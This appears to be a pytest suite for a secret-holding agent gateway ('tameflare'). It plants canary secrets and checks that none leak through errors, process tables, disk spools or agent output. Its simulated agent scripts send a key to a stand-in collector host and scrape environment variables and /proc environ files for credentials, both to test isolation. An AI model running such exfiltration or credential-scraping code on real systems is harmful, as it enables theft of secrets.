"""Unique secrets planted in every place that may hold them; afterwards none of them shows anywhere else."""

from __future__ import annotations

import json
import secrets
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest
from tests.support.canaries import Blob, files, open_to_others, sightings
from tests.support.doubles import Vendors
from tests.support.processes import halted, processes
from tests.support.product import GATEWAY, Governed, connectors, installed

from tameflare.demo.privileges import is_all_seeing

AGENT = """
import os, pathlib, requests
own = pathlib.Path("own-key").read_text()
held = {"Authorization": f"Bearer {own}", "Cookie": f"session={own}", "X-Api-Key": own}
for method, url in (
    ("GET", "https://api.github.com/user"),
    ("GET", f"https://api.openai.com/v1/models?api_key={own}"),
    ("PUT", "https://api.github.com/repos/acme/site/pulls/1/merge"),
    ("POST", "https://api.stripe.com/v1/refunds"),
    ("POST", "https://api.anthropic.com/v1/messages"),
    ("POST", "https://slack.com/api/chat.postMessage"),
    ("POST", "https://collector.example/drop"),
):
    answer = requests.request(method, url, headers=held, data={"note": own}, timeout=20)
    print(answer.status_code, dict(answer.headers), answer.text)
"""

WHAT_THE_AGENT_CAN_SEE = """
import os, pathlib
print(dict(os.environ))
for process in pathlib.Path("/proc").iterdir():
    for name in ("environ", "cmdline"):
        try:
            print(process, name, (process / name).read_bytes())
        except OSError as fault:
            print(process, name, type(fault).__name__)
"""


@dataclass
class Planted:
    """The installation after everything has happened; `blobs` is what it showed while it ran."""

    governed: Governed
    secrets: dict[str, str]
    blobs: list[Blob] = field(default_factory=list)
    seen_by_agent: str = ""
    pids: list[int] = field(default_factory=list)


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory, vendors: Vendors) -> Planted:
    """Live a little with every secret in place, then stop the product."""
    with installed(tmp_path_factory.mktemp("canaries"), vendors, TF_LOG_LEVEL="debug") as governed:
        product = governed.product
        link = (product.data / "proxy" / "link.token").read_text().strip()
        values = {
            **vendors.keys.all(),
            "master key": product.master_key,
            "password": product.password,
            "personal token": product.personal_token,
            "gateway token": product.gateway_token,
            "link token": link,
            "agent's own key": f"sk_live_{secrets.token_hex(16)}",
            "wrong secret": f"ghp_{secrets.token_hex(16)}",
        }
        planted = Planted(governed, values)
        planted.blobs += [*faults(planted), *programs(planted), *process_table(planted), *spool(planted)]
        product.stop()
    return planted


def programs(planted: Planted) -> Iterator[Blob]:
    """An agent with a key of its own, and one that looks around."""
    project = planted.governed.product.project
    (project / "own-key").write_text(planted.secrets["agent's own key"])
    for name, text in (("agent.py", AGENT), ("look.py", WHAT_THE_AGENT_CAN_SEE)):
        (project / name).write_text(text)
        done = planted.governed.run(sys.executable, name)
        assert done.returncode == 0, done.stderr
        yield f"output of {name}", (done.stdout + done.stderr).encode()
        planted.seen_by_agent = done.stdout
    (project / "own-key").unlink()


def faults(planted: Planted) -> Iterator[Blob]:
    """Secrets in requests that are refused: the answers must not repeat them."""
    product, values = planted.governed.product, planted.secrets
    at = f"{product.server}/api/dashboard/gateways/{GATEWAY}/connectors"
    owner = {"authorization": f"Bearer {product.personal_token}"}
    wrong = values["wrong secret"]
    log_in = {"email": "owner@example.com", "password": wrong}
    with httpx.Client(trust_env=False, timeout=30) as client:
        for name, answer in (
            ("unknown type", client.post(at, headers=owner, json={"type": "githup", "secret": wrong})),
            ("unknown field", client.post(at, headers=owner, json={"type": "github", "secrte": wrong})),
            ("wrong shape", client.post(at, headers=owner, json={"type": "github", "secret": [wrong]})),
            ("not JSON", client.post(at, headers=owner, content=f'{{"secret": "{wrong}"')),
            ("wrong password", client.post(f"{product.server}/api/dashboard/login", json=log_in)),
            ("listing", client.get(at, headers=owner)),
            ("other token", client.get(at, headers={"authorization": f"Bearer {values['gateway token']}"})),
            ("link token", client.get(at, headers={"authorization": f"Bearer {values['link token']}"})),
        ):
            assert answer.is_error or name == "listing", name
            yield f"answer to {name}", answer.content + json.dumps(dict(answer.headers)).encode()
        through = {"proxy": product.proxy.replace("://", f"://{values['personal token']}:@"), "trust_env": False}
        with httpx.Client(**through) as agent, pytest.raises(httpx.ProxyError) as fault:
            agent.get("https://api.github.com/user")
        yield "refusal of a personal token", str(fault.value).encode()


def process_table(planted: Planted) -> Iterator[Blob]:
    """Command lines of the product's processes, and environments where this user may read them (root may)."""
    planted.pids = list(processes(planted.governed.product.pid))
    for pid in planted.pids:
        yield from open_to_others(pid)


def spool(planted: Planted) -> Iterator[Blob]:
    """The proxy's records on disk, while the server does not take them."""
    governed = planted.governed
    with halted(governed, "tameflare.control"):
        governed.run("curl", "-s", f"https://api.openai.com/v1/models?api_key={planted.secrets['wrong secret']}")
        found = [(place, data) for place, data in files(governed.product.data / "proxy" / "spool") if data]
    assert any(b"/v1/models" in data for _, data in found)
    yield from found


def may_hold_master_key(place: str) -> bool:
    """The operator gives it to `tf up`, which hands it to the server alone; both are closed to debuggers."""
    return place.startswith("environ of ") and place.endswith(("tf up", "-m tameflare.control"))


def test_nothing_shows_while_it_runs(planted: Planted) -> None:
    output = [(place, data) for place, data in planted.blobs if place != "output of agent.py"]
    others = {name: value for name, value in planted.secrets.items() if name != "master key"}
    assert sightings(others, output) == []
    closed = [(place, data) for place, data in output if not may_hold_master_key(place)]
    assert sightings({"master key": planted.secrets["master key"]}, closed) == []


def test_the_agent_gets_only_its_own_back(planted: Planted) -> None:
    foreign = {name: value for name, value in planted.secrets.items() if name != "agent's own key"}
    output = [(place, data) for place, data in planted.blobs if place.startswith("output of ")]
    assert len(output) == 2
    assert sightings(foreign, output) == []


def test_nothing_is_left_on_disk(planted: Planted) -> None:
    """But for the two files that are there to hold a token."""
    product = planted.governed.product
    holders = {
        "gateway token": product.project / ".tf" / "config.yaml",
        "link token": product.data / "proxy" / "link.token",
    }
    for name, holder in holders.items():
        held = {name: planted.secrets[name]}
        assert sightings(held, files(product.directory)) == [f"{name} in {holder.relative_to(product.directory)}"]
    for name, value in planted.secrets.items():
        assert sightings({name: value}, files(product.directory, [holders[name]] if name in holders else ())) == []


def test_the_secrets_were_really_there(planted: Planted) -> None:
    product = planted.governed.product
    assert (product.data / "server" / "traffic.db").stat().st_size
    assert (product.data / "server" / "tameflare.db").read_bytes().count(b"enc:v2:") >= len(
        connectors(planted.governed.vendors)
    )
    assert "TF_" not in planted.seen_by_agent.splitlines()[0].replace("TF_SERVER_URL", "")
    statuses = {blob.split()[0] for place, blob in planted.blobs if place == "output of agent.py"}
    assert statuses == {b"200"}


@pytest.mark.skipif(is_all_seeing(), reason="root without setpriv sees everything")
def test_the_products_processes_are_closed_to_the_agent(planted: Planted) -> None:
    assert len(planted.pids) == len(("tf up", "server", "proxy", "shipper"))
    for pid in planted.pids:
        assert f"/proc/{pid} environ PermissionError" in planted.seen_by_agent


def test_holders_of_secrets_are_private(planted: Planted) -> None:
    for path in planted.governed.product.data.rglob("*"):
        assert path.stat().st_mode & 0o077 == 0, path
    config = Path(planted.governed.product.project, ".tf", "config.yaml")
    assert config.stat().st_mode & 0o077 == 0
